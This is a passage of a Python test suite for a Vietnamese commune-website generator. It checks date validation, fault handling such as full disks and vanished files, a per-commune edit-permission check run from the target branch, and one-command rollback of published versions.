    assert found == sorted([(call_up, line, rule) for line in (15, 16, 17, 18) for rule in ("personal-id", "personal-phone")]
                           + [("cong-khai/an-sinh-xa-hoi/ho-tro-sua-chua-nha-mua-lu-11-2026.yml", 22, "personal-phone")])


# --- Plausibility of dates ---------------------------------------------------------------------------------------

def test_implausible_dates_are_refused_and_never_top_a_feed(hostile):
    options, result, _, _ = hostile
    for name in ("ngay-9999", "ngay-0001", "ngay-1945"):
        assert findings_at(result, f"xa-tan-thanh/tin-tuc/{name}.md") >= {("implausible-date", 3)}, name
    assert findings_at(result, "xa-tan-thanh/tin-tuc/ngay-2030.md") == {("future-date", 3)}
    assert findings_at(result, "xa-tan-thanh/tin-tuc/ngay-ok.md") == set()
    root = ET.fromstring(read(options.output, "xa-tan-thanh/feeds/atom.xml"))
    first = next(root.iter("{http://www.w3.org/2005/Atom}entry")).find("{http://www.w3.org/2005/Atom}title").text
    assert "9999" not in first and "năm 1" not in first


def test_the_plausible_range_and_the_check_day():
    from trangxa.read.plausible import EARLIEST, LATEST, future_postings, plausible
    from trangxa.read.records import parse_date

    assert (EARLIEST, LATEST) == (dt.date(1945, 9, 2), dt.date(2100, 12, 31))
    assert plausible(parse_date("02/09/1945")) == EARLIEST
    for text in ("01/09/1945", "31/12/9999", "01/01/0001", "01/01/2101"):
        with pytest.raises(ValueError, match="implausible-date"):
            plausible(parse_date(text))
    from trangxa.law.loading import load_profile
    from trangxa.read.items import Item

    item = Item("tin-tuc/a.md", "tin-tuc", "bai-viet", {"ngay_dang": dt.date(2026, 12, 1)}, {"ngay_dang": 3})
    profile = load_profile("nd224-2026")
    assert future_postings([item], profile, dt.date(2026, 11, 20), today=dt.date(2026, 11, 20))[0][1].line == 3
    assert future_postings([item], profile, dt.date(2026, 9, 30), today=dt.date(2026, 12, 3)) == []  # a past as-of


# --- Faults ------------------------------------------------------------------------------------------------------

def small_province(tmp_path: Path):
    return scratch_province(tmp_path, communes(TAN_THANH, DONG_HAI))


def cli(options, *extra, preexec=None) -> subprocess.CompletedProcess:
    args = [sys.executable, "-m", "trangxa", "build", "--communes-dir", str(options.communes_dir), "--output",
            str(options.output), "--province", str(options.province_path()), "--jobs", "2", "--today",
            TODAY.isoformat(), *extra]
    return subprocess.run(args, cwd=ROOT, env=dict(os.environ, PYTHONPATH=str(ROOT / "plugins")), capture_output=True,
                          text=True, timeout=900, preexec_fn=preexec)


def test_a_full_disk_publishes_nothing_and_keeps_the_previous_release(tmp_path):
    """Files may not grow past 4 KB (RLIMIT_FSIZE, as a nearly full disk does to the pages): nothing of the new
    build reaches the release, the previous one stays byte for byte, the run says why, without a traceback."""
    import resource
    import signal

    options = small_province(tmp_path)
    build(options)
    before = manifest(options.output)
    write_tree(options.communes_dir, {"xa-tan-thanh/tin-tuc/moi.md": "---\ntieu_de: Tin mới\nngay_dang: 19/11/2026\n---\n"})

    def full_disk():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    done = cli(options, preexec=full_disk)
    assert done.returncode != 0 and "Traceback" not in done.stderr + done.stdout
    assert manifest(options.output) == before
    assert "Không" in done.stderr + done.stdout


def test_empty_files_left_by_a_full_disk_keep_a_site_out_of_the_release(tmp_path, monkeypatch):
    from trangxa_site import generator

    options = small_province(tmp_path)
    build(options)
    good = (options.output / "xa-tan-thanh" / "index.html").read_bytes()
    write_tree(options.communes_dir, {"xa-tan-thanh/tin-tuc/moi.md": "---\ntieu_de: Tin mới\nngay_dang: 19/11/2026\n---\n"})
    original = generator.CommuneGenerator._finish

    def truncated(self, write):  # a write that "succeeded" with nothing in it: what ENOSPC left behind
        original(self, write)
        if self.job.commune.slug == "xa-tan-thanh":
            Path(self.output_path, "tin-tuc", "index.html").write_bytes(b"")

    monkeypatch.setattr(generator.CommuneGenerator, "_finish", truncated)
    result = build(options)
    site = next(site for site in result.communes if site.name == "xa-tan-thanh")
    assert not site.built and site.kept_previous
    assert [(f.rule, f.file) for f in site.findings if f.rule == "site-incomplete"] == [("site-incomplete", "xa-tan-thanh/")]
    assert (options.output / "xa-tan-thanh" / "index.html").read_bytes() == good
    assert not (options.output / "xa-tan-thanh/tin-tuc/moi").exists()


@pytest.mark.parametrize("fault", ["raises", "empty-home"])
def test_a_failing_or_broken_index_build_publishes_nothing(tmp_path, monkeypatch, fault):
    from trangxa.options import BuildError
    from trangxa_province import generator

    options = small_province(tmp_path)
    build(options)
    before = manifest(options.output)
    write_tree(options.communes_dir, {"xa-tan-thanh/tin-tuc/moi.md": "---\ntieu_de: Tin mới\nngay_dang: 19/11/2026\n---\n"})
    original = generator.ProvinceGenerator.generate_output

    def broken(self, writer):
        if fault == "raises":
            raise OSError(28, "No space left on device")
        original(self, writer)
        Path(self.output_path, "index.html").write_bytes(b"")

    monkeypatch.setattr(generator.ProvinceGenerator, "generate_output", broken)
    with pytest.raises(BuildError, match="chỉ mục của tỉnh"):
        build(options)
    assert manifest(options.output) == before


def test_a_second_build_on_one_output_is_told_in_vietnamese(tmp_path):
    from trangxa.options import BuildError

    options = small_province(tmp_path)
    with output_lock(options.output):
        done = cli(options)
        assert done.returncode == 2 and "Đang có một lần tạo trang khác" in done.stderr
        assert "Traceback" not in done.stderr
        with pytest.raises(BuildError, match="Đang có một lần tạo trang khác"):
            build(options)
    assert cli(options).returncode == 0  # the lock is gone with its holder


def test_an_output_that_cannot_be_written_is_said_and_exits_2(tmp_path, monkeypatch, capsys):
    import errno

    from trangxa.cli import run_build

    options = small_province(tmp_path)
    (tmp_path / "tep").write_text("một tệp, không phải thư mục")
    done = cli(replace(options, output=tmp_path / "tep" / "output"))
    assert done.returncode == 2 and "Không thể chạy" in done.stderr and "Traceback" not in done.stderr
    if os.geteuid():  # a real read-only folder (root writes anyway)
        (tmp_path / "chi-doc").mkdir(mode=0o555)
        done = cli(replace(options, output=tmp_path / "chi-doc" / "output"))
        assert done.returncode == 2 and "chỉ đọc" in done.stderr
    original = Path.mkdir

    def read_only(self, *args, **kwargs):  # what a read-only mount answers (EROFS), root or not
        if "chi-doc" in str(self):
            raise OSError(errno.EROFS, "Read-only file system", str(self))
        return original(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", read_only)
    assert run_build(replace(options, output=tmp_path / "chi-doc" / "output")) == 2
    said = capsys.readouterr()
    assert "chỉ đọc" in said.err and "Traceback" not in said.err + said.out


def test_a_file_deleted_mid_build_never_leaves_a_half_site(tmp_path, monkeypatch):
    from trangxa.read import items
    from trangxa_render import pages

    options = small_province(tmp_path)
    build(options)
    write_tree(options.communes_dir, {"xa-tan-thanh/tin-tuc/moi.md": "---\ntieu_de: Tin mới\nngay_dang: 19/11/2026\n---\n",
                                      "phuong-dong-hai/tin-tuc/moi.md": "---\ntieu_de: Mới\nngay_dang: 19/11/2026\n---\n"})
    reading, copying = items.read_source, pages.copy_assets

    def vanishing(path):  # read while the file is being deleted (a checkout running beside the build)
        if path.name == "moi.md" and "xa-tan-thanh" in str(path):
            path.unlink()
        return reading(path)

    def assets_vanishing(source, output, assets):
        if "phuong-dong-hai" in source:
            Path(source, "van-ban/112-qd-ubnd.pdf").unlink()
        return copying(source, output, assets)

    monkeypatch.setattr(items, "read_source", vanishing)
    monkeypatch.setattr(pages, "copy_assets", assets_vanishing)
    result = build(options)
    sites = {site.name: site for site in result.communes}
    assert [(f.rule, f.file) for f in sites["xa-tan-thanh"].findings if f.rule == "file-unreadable"] == [
        ("file-unreadable", "xa-tan-thanh/tin-tuc/moi.md")]
    assert sites["xa-tan-thanh"].built and not (options.output / "xa-tan-thanh/tin-tuc/moi").exists()
    assert not sites["phuong-dong-hai"].built and sites["phuong-dong-hai"].kept_previous
    for slug in ("xa-tan-thanh", "phuong-dong-hai"):
        assert (options.output / slug / "index.html").stat().st_size > 0
        assert (options.output / slug / "van-ban" / "index.html").is_file()


# --- Who may change what ---------------------------------------------------------------------------------------

MAPPING = """\
tinh: ["@tinh-thu-nghiem/ky-thuat", tranvanb]
xa:
  xa-tan-thanh: [nguyenvana]
  phuong-dong-hai: [lethic, "@tinh-thu-nghiem/dong-hai"]
"""


def test_codeowners_is_generated_from_the_mapping():
    from trangxa.owners import codeowners, parse

    assert codeowners(parse(MAPPING)).splitlines()[1:] == [
        "* @tinh-thu-nghiem/ky-thuat @tranvanb",
        "/communes/phuong-dong-hai/ @lethic @tinh-thu-nghiem/dong-hai @tinh-thu-nghiem/ky-thuat @tranvanb",
        "/communes/xa-tan-thanh/ @nguyenvana @tinh-thu-nghiem/ky-thuat @tranvanb"]
    committed = (ROOT / "CODEOWNERS").read_text(encoding="utf-8")  # kept in step: "invoke codeowners" after an edit
    assert codeowners(parse((ROOT / "phan-quyen.yml").read_text(encoding="utf-8"))) == committed


@pytest.mark.parametrize("text", ["tinh: []\n", "tinh: [a]\nxa: {Xa_Sai: [b]}\n", "tinh: [\"a b\"]\n",
                                  "tinh: [a]\nxa: {xa-a: [\"x\\ny\"]}\n", "- a\n"])
def test_a_broken_mapping_is_refused_in_vietnamese(text):
    from trangxa.owners import OwnersError, parse

    with pytest.raises(OwnersError, match="phan-quyen.yml"):
        parse(text)


def owned_repository(tmp_path: Path) -> Path:
    repo = tmp_path / "kho"
    write_tree(repo, {"phan-quyen.yml": MAPPING, "province.yml": "ten: Tỉnh\n",
                      "communes/xa-tan-thanh/tin-tuc/a.md": "a\n", "communes/phuong-dong-hai/tin-tuc/b.md": "b\n",
                      "plugins/trangxa/owners.py": (ROOT / "plugins/trangxa/owners.py").read_text(encoding="utf-8")})
    git("init", "-q", "-b", "main", str(repo), cwd=tmp_path)
    for key, value in (("user.name", "Thử"), ("user.email", "thu@example.invalid")):
        git("config", key, value, cwd=repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "gốc", cwd=repo)
    return repo


def request(repo: Path, files: dict[str, str], branch: str) -> None:
    git("checkout", "-q", "-b", branch, "main", cwd=repo)
    write_tree(repo, files)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", branch, cwd=repo)


def run_owners(repo: Path, author: str, *extra: str) -> subprocess.CompletedProcess:
    script = repo / "owners-from-base.py"  # as CI does: the script as it is on the target branch
    script.write_text(git("show", "main:plugins/trangxa/owners.py", cwd=repo), encoding="utf-8")
    return subprocess.run([sys.executable, str(script), "--base", "main", "--head", "HEAD", "--author", author,
                           "--repo", str(repo), *extra], capture_output=True, text=True)


def test_a_request_inside_the_authors_commune_passes(tmp_path):
    repo = owned_repository(tmp_path)
    request(repo, {"communes/xa-tan-thanh/tin-tuc/moi.md": "mới\n"}, "tin-moi")
    done = run_owners(repo, "NguyenVanA")
    assert done.returncode == 0 and "chỉ sửa các tệp thuộc phạm vi" in done.stdout
    assert run_owners(repo, "tranvanb").returncode == 0  # the province's team may change any commune


def test_a_request_outside_the_authors_communes_is_flagged_in_vietnamese(tmp_path):
    repo = owned_repository(tmp_path)
    request(repo, {"communes/xa-tan-thanh/tin-tuc/moi.md": "mới\n", "communes/phuong-dong-hai/tin-tuc/b.md": "sửa\n",
                   "province.yml": "ten: Tỉnh khác\n", ".github/workflows/x.yml": "on: push\n",
                   "phan-quyen.yml": MAPPING.replace("[nguyenvana]", "[nguyenvana]\n  phuong-dong-hai: [nguyenvana]"),
                   "plugins/trangxa/owners.py": "import sys\nsys.exit(0)\n"}, "lan-sang")
    done = run_owners(repo, "nguyenvana")
    assert done.returncode == 1
    assert "sửa 5 tệp ngoài phạm vi được giao" in done.stdout
    for path in ("communes/phuong-dong-hai/tin-tuc/b.md — thuộc xã phuong-dong-hai",
                 "province.yml — thuộc nhóm kỹ thuật của tỉnh", ".github/workflows/x.yml — thuộc nhóm kỹ thuật",
                 "phan-quyen.yml — thuộc nhóm kỹ thuật", "plugins/trangxa/owners.py — thuộc nhóm kỹ thuật"):
        assert path in done.stdout
    github = run_owners(repo, "nguyenvana", "--format", "github")
    assert "::error file=province.yml,title=quyen-sua::" in github.stdout


def test_ci_files_run_the_owners_check_from_the_target_branch():
    import yaml

    github = yaml.safe_load((ROOT / ".github/workflows/trangxa.yml").read_text(encoding="utf-8"))
    step = next(s for s in github["jobs"]["check"]["steps"] if "owners.py" in s.get("run", ""))
    assert step["if"] == "github.event_name == 'pull_request'" and "git show FETCH_HEAD:plugins/trangxa/owners.py" in step["run"]
    gitlab = yaml.safe_load((ROOT / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    job = gitlab["quyen-sua"]
    assert job["stage"] == "check" and "merge_request_event" in job["rules"][0]["if"]
    assert any("git show FETCH_HEAD:plugins/trangxa/owners.py" in line for line in job["script"])


def test_one_command_rolls_a_publish_back_to_the_previous_version(tmp_path):
    from trangxa.build.publish import push
    from trangxa.build.rollback import RollbackError, rollback

    bare, work = repositories(tmp_path)
    versions = [write_tree(tmp_path / f"ban-{n}", {"index.html": f"<p>Bản {n}</p>", "xa-a/index.html": f"xã {n}"})
                for n in (1, 2, 3)]
    for site in versions:
        push(site, work, "gh-pages", "origin", "Xuất bản")
    live = lambda: git("show", "gh-pages:index.html", cwd=bare)  # noqa: E731
    assert live() == "<p>Bản 3</p>"
    rolled = rollback(work, "gh-pages", "origin")
    assert live() == "<p>Bản 2</p>" and rolled.commit == git("rev-parse", "gh-pages", cwd=bare).strip()
    rollback(work, "gh-pages", "origin")  # again: one version further back
    assert live() == "<p>Bản 1</p>"
    with pytest.raises(RollbackError, match="không có bản nào trước"):
        rollback(work, "gh-pages", "origin")
    push(versions[2], work, "gh-pages", "origin", "Xuất bản")  # publishing goes on from there
    assert live() == "<p>Bản 3</p>"
    rollback(work, "gh-pages", "origin")
    assert live() == "<p>Bản 1</p>"  # the version live before this publication
    history = git("log", "--format=%s", "gh-pages", cwd=bare).splitlines()
    assert len(history) == 7 and history[0].startswith("Quay lại bản xuất bản trước")  # nothing rewritten


def test_invoke_rollback_is_one_command(tmp_path):
    done = subprocess.run([sys.executable, "-m", "invoke", "--list"], cwd=ROOT, capture_output=True, text=True)
    assert "rollback" in done.stdout and "codeowners" in done.stdout
